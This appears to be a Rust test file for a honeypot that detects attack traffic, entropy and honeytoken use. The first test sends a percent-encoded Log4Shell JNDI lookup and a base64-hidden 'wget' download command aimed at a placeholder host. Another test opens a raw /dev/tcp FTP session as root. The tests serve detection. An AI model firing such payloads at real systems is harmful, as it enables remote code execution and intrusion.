//! What comes out with a report: marks, facts and honeytokens, recognised where the bytes are parsed.

use crate::support::{Traps, each_service, run};
use honeymesh_trap::{Limits, bind};
use honeymesh_types::{Shape, Signs};

#[tokio::test]
async fn a_real_clients_request_is_told_with_what_it_is_a_sign_of() {
    let mut traps = Traps::usual();
    let url = format!("http://{}/cgi-bin/x?a=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%2Fa%7D", traps.address("http"));
    run("curl", &["-sS", "-A", "Mozilla/5.0 zgrab/0.x", "-d", "x=echo+d2dldCBodHRwOi8vMTk4LjUxLjEwMC45L2k=", &url]).await;
    let visit = traps.visit_where(|visit| visit.trap == "http" && visit.bytes > 0).await;
    let marks = visit.marks.expect("somebody has looked");
    assert_eq!(marks.shapes[&Shape::Jndi], "ldap://198.51.100.9/a (in percent)");
    assert_eq!(marks.shapes[&Shape::Download], "http://198.51.100.9/i (in percent in base64)");
    assert_eq!(visit.fields["download"], "http://198.51.100.9/i");
    assert_eq!(visit.fields["tool"], "zgrab");
    assert!(marks.entropy.whole > 3_000 && marks.entropy.window >= marks.entropy.short, "{:?}", marks.entropy);
    traps.close().await;
}

#[tokio::test]
async fn an_answers_entropy_is_told_with_the_report_that_follows_it() {
    let mut traps = Traps::usual();
    run(
        "bash",
        &["-c", &format!("exec 3<>/dev/tcp/127.0.0.1/{}; sleep 0.3; printf 'USER root\\r\\n' >&3; sleep 0.3; printf 'PASS x\\r\\nQUIT\\r\\n' >&3; cat <&3", traps.port("ftp"))],
    )
    .await;
    let visit = traps.visit_where(|visit| visit.trap == "ftp").await;
    let sent = visit.marks.unwrap().entropy.sent.expect("a password was asked for before");
    assert!((2_000..6_000).contains(&sent), "{sent}");
    traps.close().await;
}

#[tokio::test]
async fn a_honeytoken_is_bait_in_whatever_it_is_wrapped() {
    let bound = bind(each_service(Limits::default())).unwrap().with_tokens(vec!["kX9wQ2mLt7Rz".into()]);
    let mut traps = Traps::of(bound);
    let url = format!("http://{}/", traps.address("http"));
    for (arguments, is_bait) in
        [(["-u", "root:kX9wQ2mLt7Rz"], true), (["-u", "root:other-word"], false), (["-d", "p=kX9wQ2m%4ct7Rz"], true)]
    {
        run("curl", &[&["-sS", "-o", "/dev/null", &url], &arguments[..]].concat()).await;
        let visit = traps.visit_where(|visit| visit.bytes > 0).await;
        assert_eq!(visit.signs.contains(Signs::BAIT), is_bait, "{arguments:?}");
        assert_eq!(visit.fields.contains_key("bait"), is_bait);
    }
    traps.close().await;
}
